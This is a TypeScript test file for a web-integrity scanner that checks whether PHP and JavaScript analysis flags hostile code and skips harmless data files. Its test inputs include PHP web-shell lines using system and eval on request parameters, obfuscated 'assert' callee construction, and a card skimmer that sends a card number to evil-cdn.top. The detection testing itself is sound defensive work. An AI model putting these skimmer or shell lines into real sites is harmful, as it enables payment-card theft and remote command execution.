// Shortcuts the scanner takes to save time, each checked to change no verdict: PHP code that can
// do nothing (data files) is not parsed, nor code that runs nothing dynamically but says so in
// its comments or strings (preg_replace only with a pattern that may carry the `e` modifier; the
// reader that places them jumps between strings and comments, checked against a char-by-char one),
// nor code whose callee names could only be built by string functions applied to variables;
// a script file whose strings hold `<script>` tags is parsed
// once, the scripts in its strings read from their values; the scanner walks folders by entry
// types, without lstat, and reads every file into one reused buffer.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { createFilter } from '../../../src/integrity/filter.ts';
import { readHead, readHeadReused } from '../../../src/integrity/hash.ts';
import { analyseScriptFile } from '../../../src/integrity/scan/js-analysis.ts';
import { analysePhp, codeActs, executesOutsideText } from '../../../src/integrity/scan/php-analysis.ts';
import { loadCodeRules } from '../../../src/integrity/scan/rules.ts';
import { scanContent } from '../../../src/integrity/scan/scanner.ts';
import { walkFiles, walkRoots } from '../../../src/integrity/walk.ts';

const rules = loadCodeRules();

test('codeActs: data whose strings name functions does nothing; any call, eval, include or shell does', () => {
  const data = `<?php declare(strict_types = 1);
$ignoreErrors = [];
$ignoreErrors[] = ['message' => 'Parameter #1 $callback of function call_user_func() expects callable, eval($_POST) given.', 'count' => 1, 'path' => __DIR__ . '/../x.php'];
# a comment with system($_GET[1]);
/* and eval(base64_decode($x)); */
return array('parameters' => ['ignoreErrors' => $ignoreErrors]);
`;
  assert.equal(codeActs(data), false);
  assert.equal(codeActs('<p>Don\'t run(this)</p><?php $a = "x"; ?> more(markup)'), false);
  for (const acting of [
    '<?php foo();',
    '<?php $f($x);',
    '<?php $o->m ();',
    '<?php X::m();',
    '<?php ("sys" . "tem")("id");',
    '<?php "system"("id");',
    '<?php $a[0]("id");',
    '<?php eval  $x;',
    '<?php EVAL($x);',
    "<?php include 'x.png';",
    '<?php require_once $f;',
    '<?php `id`;',
    '<?php new X;',
    '<?php goto a;',
    '<?php $$k = $v;',
    '<?php ${"k"} = $v;',
    '<?php $a = "{$o->run()}";',
    '<?php $a = <<<EOT\nx\nEOT;',
    '<?php #[Attr] $a = 1;',
    "<?php $a = 'unclosed",
    '<?php /* unclosed',
    // A `<?` inside what looks like a string or a comment may be code the parser reads.
    "<?xml a='1'?><p>it's</p><?php system($_GET['c']); ?>'",
    "<? $a = 1; // x ?> it's <?php eval($_GET['c']); ?>'",
  ])
    assert.equal(codeActs(acting), true, acting);
});

test('a data file that names functions in strings is skipped, a shell in the same shape is not', () => {
  const rows = Array.from(
    { length: 50 },
    (_, i) =>
      `$e[] = ['message' => 'Parameter #${i} $cmd of function system expects string, $_GET given to eval().', 'count' => 1];`,
  ).join('\n');
  const data = `<?php\n${rows}\nreturn $e;\n`;
  const r = analysePhp(data);
  assert.equal(r.parsed, false);
  assert.deepEqual(r.signals, []);
  const shell = `${data}system($_GET['cmd']);\n`;
  assert.equal(analysePhp(shell).parsed, true);
  assert.ok(scanContent(shell, { path: 'x.php', rel: 'x.php' }, rules).length > 0);
});

test('walkFiles lists the regular files walkRoots finds, in its order, without following symlinks', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ripcord-walkfiles-'));
  try {
    for (const d of ['b', 'a/z', 'a/y', '.git', 'outside']) mkdirSync(join(dir, d), { recursive: true });
    for (const f of [
      'b/2.php',
      'b/1.php',
      'a/z/x.js',
      'a/y/w.phtml',
      'a/0.txt',
      'top.php',
      '.git/HEAD',
      'outside/o.php',
    ])
      writeFileSync(join(dir, f), '<?php echo 1;');
    symlinkSync(join(dir, 'outside'), join(dir, 'a/linked-dir'));
    symlinkSync(join(dir, 'top.php'), join(dir, 'b/linked.php'));
    execFileSync('mkfifo', [join(dir, 'b/pipe')]);
    const exclude = createFilter({ preset: null, exclude: ['outside', 'outside/**'] });
    const files = await walkFiles(dir, exclude);
    const expected = (await walkRoots([dir], exclude)).filter((e) => e.type === 'file').map((e) => e.path);
    assert.deepEqual(files, expected);
    assert.ok(files.includes('b/1.php') && !files.includes('b/linked.php') && !files.includes('b/pipe'));
    assert.ok(!files.some((f) => f.startsWith('a/linked-dir') || f.startsWith('outside/')));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

const library = `/* A library that writes scripts into the page. */
var Lib = {
  ScriptFragment: '<script[^>]*>([\\S\\s]*?)<\\/script>',
  load: function (src) { document.write('<script type="text/javascript" src="' + src + '"><\\/script>'); },
  eval: function (html) { return html.match(new RegExp(this.ScriptFragment, 'img')); },
};
`;

test('a script file with <script> in its strings is clean when it is, and its string-held skimmer is found', () => {
  assert.deepEqual(scanContent(library, { path: 'js/lib.js', rel: 'js/lib.js' }, rules), []);
  // A skimmer written into the page from concatenated literals: only the strings' values show it.
  const skimmer = `${library}document.write('<script>var n = document.getElementById("cc_number").value;' +
  'new Image().src = "https://evil-cdn.top/c?d=" + btoa(n);</script>');
`;
  const signals = analyseScriptFile(skimmer);
  const exfil = signals.find((s) => s.id === 'js-card-exfiltration');
  assert.ok(exfil, JSON.stringify(signals));
  assert.equal(exfil.line, 7); // where the string that holds it starts
  const found = scanContent(skimmer, { path: 'js/lib.js', rel: 'js/lib.js' }, rules);
  assert.ok(found.some((f) => f.rule === 'js-card-exfiltration'));
});

test('a <script> in a comment or a regular expression of a script file is not read; tags after it still are', () => {
  const steal =
    'var n = document.getElementById("cc_number").value; new Image().src = "https://evil-cdn.top/c?d=" + btoa(n);';
  const strip = `var Parser = { strip: function (h) { return h.replace(/<script[^>]*>([\\S\\s]*?)<\\/script>/gi, ''); } };`;
  // Commented out, the skimmer runs nothing.
  const commented = `/* What strip() removes: <script>${steal}</script> */
${strip}
document.write('<script src="/js/app.js"><\\/script>');
`;
  assert.deepEqual(analyseScriptFile(commented), []);
  // The regular expression's tag would run on to the file's end and swallow the tags after it:
  // a tag written from a template with an expression is read as the script it is.
  const written = `${strip}
var id = 1; document.write(\`<div id="\${id}"></div><script>${steal}</script>\`);
`;
  assert.ok(analyseScriptFile(written).some((x) => x.id === 'js-card-exfiltration'));
});

test('readHeadReused reads what readHead reads, into one buffer, and refuses symlinks', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ripcord-readhead-'));
  try {
    const sizes = [0, 10, 70_000, 300_000, 5];
    for (const [i, n] of sizes.entries()) writeFileSync(join(dir, `f${i}`), Buffer.alloc(n, 65 + i));
    for (let i = 0; i < sizes.length; i++) {
      const p = join(dir, `f${i}`);
      const want = readHead(p, 100_000).toString('latin1');
      assert.equal(readHeadReused(p, 100_000).toString('latin1'), want);
    }
    symlinkSync(join(dir, 'f1'), join(dir, 'link'));
    assert.throws(() => readHeadReused(join(dir, 'link'), 100));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('eval, include, require and $f( in comments and strings do not make code worth parsing; in code they do', () => {
  const quiet = `<?php
/**
 * Include the renderer's output; Require a name. Do not eval() or $callback() it.
 */
class Names
{
    public function label($a) { return sprintf('%s: include %s', ucfirst('label'), implode(', ', explode(' ', $a))) . "$a(x)"; }
}
`;
  assert.equal(analysePhp(quiet).parsed, false);
  const loud = [
    quiet.replace('return sprintf', 'eval($a); return sprintf'),
    quiet.replace('return sprintf', '$a($a); return sprintf'),
    quiet.replace('return sprintf', "include $a . '.php'; return sprintf"),
    // A string that names a callee is still a reason: it can be called through a callback.
    quiet.replace('return sprintf', "array_map('assert', [$a]); return sprintf"),
    // "{$f()}" calls from inside a string.
    quiet.replace('"$a(x)"', '"{$a(1)}"'),
    // A `<?` in a string far past the first ones (the next `<?` is remembered, not searched per
    // string): the reading of the `$callback(` in the comment after it is unsure, so it counts.
    quiet.replace("'%s: include %s'", "'%s: include %s', 'x', 'y', '<?'"),
  ];
  for (const text of loud) assert.equal(analysePhp(text).parsed, true, text);
});

test('preg_replace with a literal pattern and no e modifier runs nothing; with /e, a built pattern or as a callback it does', () => {
  const quiet = `<?php
class Names
{
    public function label($a) { return preg_replace('/[^a-z0-9_]/i', '', sprintf('%s', ucfirst('label'), implode(',', explode(' ', $a)))); }
}
`;
  assert.equal(analysePhp(quiet).parsed, false);
  const loud = [
    quiet.replace("'/[^a-z0-9_]/i'", "'/[^a-z0-9_]/ie'"),
    quiet.replace("'/[^a-z0-9_]/i'", "'#x#e'"),
    quiet.replace("'/[^a-z0-9_]/i'", '$p'),
    quiet.replace("'/[^a-z0-9_]/i'", "'/' . $p . '/e'"),
    quiet.replace('return preg_replace(', "array_map('preg_replace', [$a]); return preg_replace("),
  ];
  for (const text of loud) assert.equal(analysePhp(text).parsed, true, text);
});

test('string functions build a callee name only from literals: on any variable they are everyday code, not worth parsing', () => {
  const quiet = `<?php
class Router
{
    public function dispatch($path, $callback) {
        $parts = explode('/', trim($path, '/'));
        $name = sprintf('%sAction', strtolower(implode('_', $parts)));
        $label = substr(str_replace('_', ' ', $name), 0, 40);
        return $callback($label . '!');
    }
}
`;
  assert.equal(analysePhp(quiet).parsed, false);
  const label = "$label = substr(str_replace('_', ' ', $name), 0, 40);";
  const loud = [
    // Cut from a literal, or from a variable the file assigns one.
    quiet.replace(label, "$label = strrev('tressa');"),
    quiet.replace(label, "$label = str_replace('x', '', 'axsxsxexrxt');"),
    quiet.replace(label, "$label = implode('', ['as', 'sert']);"),
    quiet.replace("$parts = explode('/', trim($path, '/'));", "$name = 'xxxxassertxxxx';"),
    // Junk stripped out of a variable.
    quiet.replace("str_replace('_', ' ', $name)", "str_replace('_', '', $name)"),
  ];
  for (const text of loud) assert.equal(analysePhp(text).parsed, true, text);
});

/**
 * The reading of where eval, include, require and `$f(` fall, char by char as it was first
 * written: the reference the jumping reader (executesOutsideText) must agree with.
 */
function executesOutsideTextStepwise(text: string): boolean {
  if (
    /\b(?:assert|create_function|call_user_func(?:_array)?)\b|\bpreg_replace\b(?!\s*\(\s*['"][^'"\n]*[^\w\s\\'"][a-df-z]*['"]\s*,)/i.test(
      text,
    )
  )
    return true;
  const code = /<\?/.test(text) || /^\s*</.test(text) ? text : `<?php ${text}`;
  const n = code.length;
  let php = false;
  let i = 0;
  let nextOpen = code.indexOf('<?');
  const placeOf = (to: number): number => {
    while (i <= to) {
      if (!php) {
        const j = code.indexOf('<?', i);
        if (j === -1 || j > to) return -1;
        php = true;
        i = j + 2;
        continue;
      }
      const c = code.charCodeAt(i);
      const d = code.charCodeAt(i + 1);
      let end = -1;
      if (c === 63 && d === 62) {
        php = false;
        i += 2;
        continue;
      }
      if (c === 35 && d === 91) return 0;
      if (c === 35 || (c === 47 && d === 47)) {
        end = i + 1;
        while (
          end < n &&
          code.charCodeAt(end) !== 10 &&
          !(code.charCodeAt(end) === 63 && code.charCodeAt(end + 1) === 62)
        )
          end++;
      } else if (c === 47 && d === 42) {
        const close = code.indexOf('*/', i + 2);
        if (close === -1) return 0;
        end = close + 2;
      } else if (c === 39 || c === 34) {
        end = i + 1;
        while (end < n && code.charCodeAt(end) !== c) end += code.charCodeAt(end) === 92 ? 2 : 1;
        if (end >= n) return 0;
        end++;
        if (c === 34 && /\{\$|\$\{/.test(code.slice(i, end))) return 0;
      } else if (c === 60 && d === 60 && code.charCodeAt(i + 2) === 60) return 0;
      if (end === -1) {
        if (i === to) return -1;
        i++;
        continue;
      }
      if (nextOpen !== -1 && nextOpen < i) nextOpen = code.indexOf('<?', i);
      if (nextOpen !== -1 && nextOpen < end) return 0;
      if (to < end) return 1;
      i = end;
    }
    return -1;
  };
  const executesInCode =
    /\b(?:eval|include|require)\b|\$[A-Za-z_\x80-\xff][\w\x80-\xff]*\s*(?:\[[^\]\n]{0,40}\]\s*)*\(/gi;
  for (let m = executesInCode.exec(code); m !== null; m = executesInCode.exec(code))
    if (placeOf(m.index) <= 0) return true;
  return false;
}

test('property: the reader that jumps between strings and comments places eval, include and $f( as reading char by char does', () => {
  // Texts of the pieces that move the reading: quotes and escapes, both comment styles, tags,
  // interpolation, heredocs, attributes, line ends, and the constructs that execute.
  const piece = fc.constantFrom(
    "'",
    '"',
    '\\',
    "\\'",
    '//',
    '#',
    '#[',
    '/*',
    '*/',
    '?>',
    '<?php ',
    '<?',
    '\n',
    ' ',
    'x',
    '.',
    '$f(',
    '$a[1](',
    'eval(',
    'include ',
    'Require ',
    '{$',
    '${',
    '<<<',
    '$x = ',
    ';',
    'a',
    'b',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
      const text = parts.join('');
      assert.equal(executesOutsideText(text), executesOutsideTextStepwise(text), JSON.stringify(text));
    }),
    { numRuns: 3000 },
  );
});
